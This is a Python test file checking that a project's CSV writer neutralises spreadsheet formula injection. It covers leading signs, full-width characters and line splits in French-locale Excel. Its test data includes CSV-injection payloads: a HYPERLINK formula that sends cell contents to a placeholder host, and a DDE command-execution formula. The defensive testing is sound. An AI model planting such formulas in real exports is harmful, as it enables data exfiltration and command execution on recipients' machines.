"""Tables as files: read by others as they were meant, and never calculated."""

from __future__ import annotations

import csv
import io
import json
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as some

from community.core.spreadsheet import BYTE_ORDER_MARK, cell, csv_file

FORMULAS = (
    "＝1+1",
    "＠SUM(A1)",
    "=1+1",
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("https://x.example/?"&A1)',
    "=cmd|'/c calc'!A0",
)


def read(file: bytes) -> list[list[str]]:
    text = file.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_formula_becomes_text(formula: str) -> None:
    (row,) = read(csv_file([formula], []))
    assert row == [f"'{formula}".replace("\t=", "\t'=").replace("\r=", "\r'=")]


@pytest.mark.parametrize("sign", "=+-@＝")
@pytest.mark.parametrize("before", [";", "\t", "\n", "\r\n", "; ", ';"', "\n\n"])
def test_no_formula_begins_where_others_split_a_line(before: str, sign: str) -> None:
    """Excel in French opens a file with commas, finds none of its semicolons, and splits at those inside of notes."""
    file = csv_file(["Note"], [[f"Rang her{before}{sign}HYPERLINK(A1)"]]).decode()
    for line in re.split(r"[\r\n;\t]", file.removeprefix(BYTE_ORDER_MARK)):
        assert not line.strip(' "').startswith(("=", "+", "-", "@", "＝")), line
    assert (
        cell("5 - 3 = 2; a = b, -c") == "5 - 3 = 2; a = b, -c"
    )  # the premise: only where a cell would begin


@given(some.lists(some.lists(some.text(), min_size=2, max_size=4), max_size=5))
def test_whatever_is_written_is_read_again_and_no_cell_is_calculated(rows: list[list[str]]) -> None:
    found = read(csv_file(["a", "b"], rows))[1:]
    assert found == [[cell(one) for one in row] for row in rows]
    assert not any(one.startswith(("=", "+", "-", "@", "\t", "\r")) for row in found for one in row)


def test_the_acid_tests_of_others_come_through(shared_data: Path) -> None:
    """What csv-spectrum's files say, written by us, is read by Python's reader as they mean it."""
    folder = shared_data / "security" / "csv-spectrum" / "json"
    files = sorted(folder.glob("*.json"))
    assert len(files) >= 10
    for file in files:
        said = json.loads(file.read_text())
        records = said if isinstance(said, list) else [said]
        header = list(records[0])
        rows = [[str(record[name]) for name in header] for record in records]
        assert read(csv_file(header, rows)) == [header, *rows], file.name


def test_a_spreadsheet_is_told_that_it_is_utf_8_and_lines_end_as_the_standard_says() -> None:
    file = csv_file(["Name", "Note"], [["张伟", 'says "no", twice'], [None, 3]])
    assert file.decode() == f'{BYTE_ORDER_MARK}Name,Note\r\n张伟,"says ""no"", twice"\r\n,3\r\n'
